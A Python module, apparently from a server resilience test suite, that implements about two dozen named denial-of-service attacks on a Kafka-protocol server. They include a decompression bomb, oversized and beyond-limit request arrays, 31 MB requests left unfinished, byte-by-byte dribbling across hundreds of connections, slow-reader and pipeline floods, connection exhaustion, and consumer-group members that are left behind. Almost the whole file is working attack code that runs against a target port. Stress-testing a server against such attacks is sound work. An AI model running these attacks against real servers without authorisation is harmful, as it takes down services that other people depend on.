"""Attacks, by name. All of them send valid frames or parts of them; none needs more than connections."""

from __future__ import annotations

import socket
import struct
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from functools import cache
from threading import Thread
from typing import TYPE_CHECKING, Final, NamedTuple

from proofs.serve.target import LARGE_RECORDS, Target
from proofs.serve.wire import (
    EMPTY_RECORD,
    FETCH,
    FIND_COORDINATOR,
    INIT_PRODUCER_ID,
    LIST_OFFSETS,
    METADATA,
    OFFSET_COMMIT,
    OFFSET_FETCH,
    PRODUCE,
    TOPIC,
    Connection,
    batch,
    commit,
    crafted,
    fetch,
    header,
    join,
    produce,
    request,
    varint,
)

if TYPE_CHECKING:
    import random
    from collections.abc import Sequence

MEBI: Final = 1 << 20
LARGE: Final = 31 * MEBI
NAME_SIZE: Final = 40
ALLOWED_ITEMS: Final = 9_900
SLOW_BUFFER: Final = 4096
AT_ONCE: Final = 32


class Battle(NamedTuple):
    """The means of an attack.

    Attributes:
        target: server to attack.
        seconds: duration of the attack.
        dice: random number generator.
        scale: factor for all counts, for a short run.
    """

    target: Target
    seconds: float
    dice: random.Random
    scale: float

    def many(self, count: int) -> int:
        """Return a count scaled for this run."""
        return max(2, round(count * self.scale))


def _ask_often(battle: Battle, bodies: Sequence[bytes], connections: int) -> None:
    """Send requests one after the other on several connections at once, until time is over."""
    deadline = time.monotonic() + battle.seconds

    def work(number: int) -> None:
        index = number
        while time.monotonic() < deadline and battle.target.is_alive:
            with suppress(OSError), Connection(battle.target.port, seconds=battle.seconds + 5) as connection:
                while time.monotonic() < deadline and connection.ask(bodies[index % len(bodies)]) is not None:
                    index += 1
            index += 1
            time.sleep(0.01)

    with ThreadPoolExecutor(connections) as pool:
        list(pool.map(work, range(connections)))


def _hold(
    battle: Battle, bodies: Sequence[bytes], count: int, *, receive_buffer: int = 0, drains: bool = False
) -> None:
    """Send bodies unchanged on `count` connections; replace closed connections.

    Args:
        battle: the server and the time.
        bodies: bodies to send, one after the other.
        count: number of simultaneous connections.
        receive_buffer: bytes of each socket's receive buffer; 0 for the system's default.
        drains: whether to read and drop the answers; else read nothing.
    """
    deadline = time.monotonic() + battle.seconds
    with ExitStack() as stack:

        def work(number: int) -> None:
            while time.monotonic() < deadline:
                with suppress(OSError):
                    connection = Connection(battle.target.port, seconds=5, receive_buffer=receive_buffer)
                    stack.callback(connection.close)
                    if drains:
                        Thread(target=_drain, args=(connection.socket,), daemon=True).start()
                    connection.socket.sendall(bodies[number % len(bodies)])
                    _await_end(connection, deadline)
                time.sleep(0.05)

        with ThreadPoolExecutor(min(count, AT_ONCE * 8)) as pool:
            list(pool.map(work, range(count)))


def _drain(connected: socket.socket) -> None:
    """Read and discard data until the connection ends."""
    with suppress(OSError):
        while connected.recv(MEBI):
            pass


def _await_end(connection: Connection, deadline: float) -> None:
    """Wait until the server closes the connection, without reading from it, or until time is over."""
    while time.monotonic() < deadline:
        info = connection.socket.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
        if info[0] != 1:  # no longer established
            return
        time.sleep(0.1)


def framed(body: bytes, claimed: int | None = None) -> bytes:
    """Return a request preceded by its size, or by a false one."""
    return struct.pack(">i", len(body) if claimed is None else claimed) + body


def metadata_of_empty_names(battle: Battle) -> None:
    """Send Metadata v1 with 500,000 empty names, a megabyte."""
    _ask_often(battle, [header(METADATA, 1) + struct.pack(">i", 500_000) + b"\0\0" * 500_000], battle.many(20))


def metadata_of_many_names(battle: Battle) -> None:
    """Send as many different names as a request may hold."""
    _ask_often(battle, [_names(ALLOWED_ITEMS)], battle.many(20))


@cache
def _names(count: int) -> bytes:
    names = b"".join(struct.pack(">h", NAME_SIZE) + b"%040d" % number for number in range(count))
    return header(METADATA, 1) + struct.pack(">i", count) + names


@cache
def _arrays(count: int) -> list[bytes]:
    """Return a request of each API that has an array, with `count` items."""
    topic = struct.pack(">ih6si", 1, len(TOPIC), TOPIC.encode(), count)
    numbers = [struct.pack(">i", number) for number in range(count)]
    return [
        header(LIST_OFFSETS, 1) + struct.pack(">i", -1) + topic + b"".join(each + bytes(8) for each in numbers),
        header(FETCH, 4) + struct.pack(">iiiib", -1, 0, 1, MEBI, 0) + topic + b"".join(e + bytes(12) for e in numbers),
        header(OFFSET_FETCH, 1) + b"\0\1g" + topic + b"".join(numbers),
        header(OFFSET_COMMIT, 2)
        + struct.pack(">h1sihq", 1, b"g", -1, 0, -1)
        + topic
        + b"".join(each + bytes(8) + b"\xff\xff" for each in numbers),
        header(23, 2) + topic + b"".join(each + bytes(8) for each in numbers),
        header(PRODUCE, 3) + struct.pack(">hhi", -1, -1, 0) + topic + b"".join(each + b"\xff" * 4 for each in numbers),
        request(FIND_COORDINATOR, 4, key_type=0, coordinator_keys=tuple(map(str, range(count)))),
        request(
            OFFSET_FETCH, 8, require_stable=False, groups=[{"group_id": str(n), "topics": None} for n in range(count)]
        ),
        header(19, 1) + struct.pack(">i", count) + bytes(8 * count),
        header(32, 1) + struct.pack(">i", count) + bytes(8 * count),
        request(INIT_PRODUCER_ID, 0, transactional_id="t" * 20_000, transaction_timeout=1),
    ]


def arrays_within_limits(battle: Battle) -> None:
    """Send each API that has an array, with the largest allowed number of items."""
    _ask_often(battle, _arrays(ALLOWED_ITEMS), battle.many(20))


def arrays_beyond_limits(battle: Battle) -> None:
    """Send each API that has an array, with far more items than allowed."""
    _ask_often(battle, _arrays(60_000), battle.many(20))


def batches_of_tiny_records(battle: Battle) -> None:
    """Send batches of 20 million records of seven bytes in 200 KB, and of as many records as are allowed."""
    bodies = [produce(crafted(EMPTY_RECORD, count)) for count in (20_000_000, 100_000, 2_000)]
    _ask_often(battle, bodies, battle.many(16))


def batches_of_many_headers(battle: Battle) -> None:
    """Send a record with a million headers, and one in a longer encoding than usual."""
    headers = varint(1_000_000) + b"\0\1" * 1_000_000
    record = b"\0\0\0\1\1" + headers
    longer = b"\x0e\0\0\x80\x00\1\1\0"
    bodies = [produce(crafted(varint(len(record)) + record, 1)), produce(crafted(longer, 4000))]
    _ask_often(battle, bodies, battle.many(16))


def bombs(battle: Battle) -> None:
    """Send records that decompress to half a gigabyte, in half a megabyte."""
    _ask_often(battle, [produce(crafted(bytes(MEBI), 512))], battle.many(16))


def half_requests_of_31_mb(battle: Battle) -> None:
    """Send requests of 31 MB that stop before their last byte."""
    _hold(battle, [framed(bytes(header(PRODUCE, 3)) + bytes(LARGE), LARGE + MEBI)], battle.many(60))


def half_requests_of_a_megabyte(battle: Battle) -> None:
    """Send such requests of a megabyte, on 900 connections."""
    _hold(battle, [framed(bytes(header(METADATA, 1)) + bytes(MEBI - 1000), MEBI)], battle.many(900))


def whole_requests_of_31_mb(battle: Battle) -> None:
    """Send requests of 31 MB that hold one batch too large to take."""
    body = produce(batch(bytes(100)) + bytes(LARGE))
    _ask_often(battle, [body], battle.many(60))


def slow_readers(battle: Battle) -> None:
    """Send fetches of megabytes, and read no answer."""
    _hold(battle, [framed(fetch(0, number=1, max_bytes=1 << 24))], battle.many(400), receive_buffer=SLOW_BUFFER)


def large_answers_unread(battle: Battle) -> None:
    """Send requests with large answers, and read none."""
    bodies = [framed(_names(ALLOWED_ITEMS)), framed(_arrays(ALLOWED_ITEMS)[0])]
    _hold(battle, bodies, battle.many(300), receive_buffer=SLOW_BUFFER)


def requests_without_end(battle: Battle) -> None:
    """Send thousands of small requests at once on one connection, and read no answer."""
    _hold(battle, [framed(header(METADATA, 1) + struct.pack(">i", -1)) * 60_000], battle.many(100))


def pipelined_requests(battle: Battle) -> None:
    """Send the same from a client that reads the answers as fast as they come, and is therefore never slowed down."""
    _hold(battle, [framed(header(METADATA, 1) + struct.pack(">i", -1)) * 60_000], battle.many(100), drains=True)


def dribbled_bytes(battle: Battle) -> None:
    """Send requests byte by byte, on hundreds of connections."""
    deadline = time.monotonic() + battle.seconds
    frame = framed(_names(100))
    with ExitStack() as stack:
        opened = []
        for _ in range(battle.many(300)):
            with suppress(OSError):
                opened.append(stack.enter_context(Connection(battle.target.port)))
        for byte in frame:
            if time.monotonic() > deadline:
                return
            for each in opened:
                with suppress(OSError):
                    each.socket.send(bytes([byte]))


def random_groups(battle: Battle) -> None:
    """Send commits of groups that never had a member, with as much metadata as is stored."""
    bodies = [commit(f"{battle.dice.getrandbits(64):x}", 1, "m" * 4000) for _ in range(2000)]
    _ask_often(battle, bodies, battle.many(16))


def members_that_go(battle: Battle) -> None:
    """Join a thousand members with sessions of half an hour, and close their connections at once."""
    deadline = time.monotonic() + battle.seconds

    def work(number: int) -> None:
        with suppress(OSError), Connection(battle.target.port, seconds=5) as connection:
            connection.send(join(f"g{number % 50}"))

    with ThreadPoolExecutor(AT_ONCE) as pool:
        list(pool.map(work, range(battle.many(1000))))
    while time.monotonic() < deadline:
        time.sleep(0.1)


def members_that_wait(battle: Battle) -> None:
    """Join members of groups that never assign partitions, and wait for each other."""
    bodies = [framed(join(f"g{number % 20}")) for number in range(100)]
    _hold(battle, bodies, battle.many(500))


def idle_connections(battle: Battle) -> None:
    """Open more connections than are allowed, and send nothing."""
    deadline = time.monotonic() + battle.seconds
    with ExitStack() as stack:
        for _ in range(battle.many(1100)):
            with suppress(OSError):
                stack.enter_context(Connection(battle.target.port, seconds=5))
        while time.monotonic() < deadline:
            time.sleep(0.1)


def connections_without_end(battle: Battle) -> None:
    """Open and close connections as fast as possible."""
    deadline = time.monotonic() + battle.seconds

    def work(_: int) -> None:
        while time.monotonic() < deadline:
            with suppress(OSError):
                Connection(battle.target.port, seconds=1).close()

    with ThreadPoolExecutor(8) as pool:
        list(pool.map(work, range(8)))


def fetches_that_wait(battle: Battle) -> None:
    """Send fetches at the end of a log that wait half a minute."""
    _hold(battle, [framed(fetch(LARGE_RECORDS, number=1, max_wait=30_000))], battle.many(600))


def lookups(battle: Battle) -> None:
    """Send lookups by timestamp, which read the log."""
    rows = [{"partition_index": number, "timestamp": 1_700_000_000_010} for number in (0, 1)]
    body = request(LIST_OFFSETS, 2, replica_id=-1, isolation_level=1, topics=[{"name": TOPIC, "partitions": rows}])
    _ask_often(battle, [body], battle.many(60))


READING: Final = (
    metadata_of_empty_names,
    metadata_of_many_names,
    arrays_within_limits,
    arrays_beyond_limits,
    half_requests_of_31_mb,
    half_requests_of_a_megabyte,
    slow_readers,
    large_answers_unread,
    requests_without_end,
    pipelined_requests,
    dribbled_bytes,
    random_groups,
    members_that_go,
    members_that_wait,
    idle_connections,
    connections_without_end,
    fetches_that_wait,
    lookups,
)
WRITING: Final = (*READING, batches_of_tiny_records, batches_of_many_headers, bombs, whole_requests_of_31_mb)
"""Attacks on a server, by whether it accepts writes."""
